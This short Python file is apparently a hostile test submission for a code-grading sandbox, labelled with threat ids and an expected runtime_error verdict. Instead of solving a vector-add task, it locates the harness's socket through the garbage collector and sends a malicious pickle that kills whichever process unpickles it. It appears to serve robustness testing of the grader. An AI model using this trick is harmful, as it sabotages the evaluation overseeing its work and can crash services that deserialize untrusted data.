# Sends an object that ends whoever unpickles it.
# threat: 1, 5
# problem: vector-add
# verdict: runtime_error

import gc
import os
import pickle
import socket

_channel = next(o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() > 0)


class _End:
    def __reduce__(self):
        return os._exit, (0,)


def solution(x, y, z, n):
    _channel.send(pickle.dumps(_End()))
